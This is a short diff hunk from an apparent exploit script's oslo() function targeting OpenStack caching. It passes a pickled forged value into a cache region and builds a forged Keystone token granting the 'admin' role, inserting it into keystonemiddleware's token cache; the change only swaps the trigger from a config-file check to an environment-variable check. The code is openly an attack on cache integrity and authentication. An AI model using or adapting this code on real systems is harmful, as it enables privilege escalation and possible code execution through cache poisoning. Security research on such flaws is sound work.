@@ -87,7 +87,7 @@ def oslo():
         attack(
             "data", region.set, lambda key: None if region.get(key) is missing else region.get(key), pickle.dumps(region._value("forged")),
         )
-    if "[keystone_authtoken]" in open(FILE).read():
+    if "OS_KEYSTONE_AUTHTOKEN__MEMCACHE_SECRET_KEY" in os.environ:
         cache = auth_token.AuthProtocol(lambda *_: None, {"oslo_config_config": conf})._token_cache
         cache.initialize({})
         forged = json.dumps({"token": {"roles": [{"name": "admin"}]}}).encode()
